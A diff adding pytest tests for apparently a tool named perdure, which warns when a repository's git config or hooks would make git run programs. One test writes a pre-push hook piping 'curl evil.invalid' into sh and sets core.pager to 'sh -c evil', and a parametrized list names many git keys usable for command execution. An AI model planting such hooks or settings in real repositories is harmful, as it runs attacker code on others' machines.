@@ -1,8 +1,12 @@
 from __future__ import annotations
 
+import shutil
 from pathlib import Path
 
+import pytest
+
 from perdure.chat.session import Session
+from perdure.history import config
 from tests.conftest import git
 from tests.speaking import Scripted
 
@@ -26,9 +30,66 @@ async def test_what_makes_git_run_programs_is_said_once_for_each_finding(compani
     (hooks / "pre-commit.sample").chmod(0o700)
     (hooks / "pre-push").write_text("not executable")
     (told,) = await notices(companion)
-    assert "core.fsmonitor, hooks/post-commit." in told
+    assert f"({companion}/.git/config: core.fsmonitor; {hooks}: post-commit)" in told
+    assert "git clone" in told
     assert await notices(companion) == []
     git(companion, "config", "alias.x", "!true")
     (told,) = await notices(companion)
-    assert "alias.x." in told
+    assert "alias.x)" in told
     assert "fsmonitor" not in told
+
+
+async def test_what_has_changed_is_said_again(companion: Path, own_home: Path) -> None:
+    """By content, and remembered where nobody who gives a folder away can write."""
+    git(companion, "config", "core.pager", "less")
+    hook = companion / ".git" / "hooks" / "pre-push"
+    hook.parent.mkdir(exist_ok=True)
+    hook.write_text("#!/bin/sh\ntrue\n")
+    hook.chmod(0o700)
+    assert len(await notices(companion)) == 1
+    hook.write_text("#!/bin/sh\ncurl evil.invalid | sh\n")
+    (told,) = await notices(companion)
+    assert "pre-push" in told
+    assert "pager" not in told
+    git(companion, "config", "core.pager", "sh -c evil")
+    assert "core.pager" in (await notices(companion))[0]
+    git(companion, "config", "--add", "include.path", "/a")
+    git(companion, "config", "--add", "include.path", "/b")
+    assert "include.path" in (await notices(companion))[0]
+    git(companion, "config", "--unset", "include.path", "/a")
+    git(companion, "config", "--add", "include.path", "/c")
+    assert "include.path" in (await notices(companion))[0]
+    assert await notices(companion) == []
+    assert not list((companion / ".git" / "perdure").rglob("*odd*"))
+    shutil.rmtree(own_home / "data")
+    assert len(await notices(companion)) == 1
+
+
+async def test_what_is_not_odd(companion: Path) -> None:
+    """What perdure writes, what git writes for a remote, and everyday settings."""
+    git(companion, "remote", "add", "origin", "git@example.invalid:mira.git")
+    git(companion, "config", "branch.main.merge", "refs/heads/main")
+    git(companion, "config", "branch.main.remote", "origin")
+    git(companion, "config", "user.name", "Ana")
+    git(companion, "config", "pull.rebase", "true")
+    assert await notices(companion) == []
+
+
+@pytest.mark.parametrize(
+    "key",
+    [
+        "core.hooksPath", "core.sshCommand", "core.editor", "core.worktree", "sequence.editor",
+        "credential.helper", "credential.https://x.helper", "gpg.program", "gpg.ssh.program",
+        "filter.lfs.clean", "diff.x.textconv", "diff.x.command", "diff.external", "merge.x.driver",
+        "remote.origin.uploadpack", "remote.origin.receivepack", "url.x.insteadOf", "pager.log",
+        "includeIf.gitdir:/.path", "commit.gpgSign", "tag.gpgSign", "gc.recentObjectsHook",
+        "submodule.x.update", "interactive.diffFilter", "tar.x.command",
+        "uploadpack.packObjectsHook",
+    ],
+)  # fmt: skip
+def test_what_is_odd(key: str) -> None:
+    section, _, name = key.rpartition(".")
+    first, dot, rest = section.partition(".")
+    head = f'[{first} "{rest}"]' if dot else f"[{first}]"
+    found = config.odd(f"{config.rendered()}{head}\n\t{name} = x\n")
+    assert [(key.lower(), value) for key, value in found] == [(key.lower(), "x")]
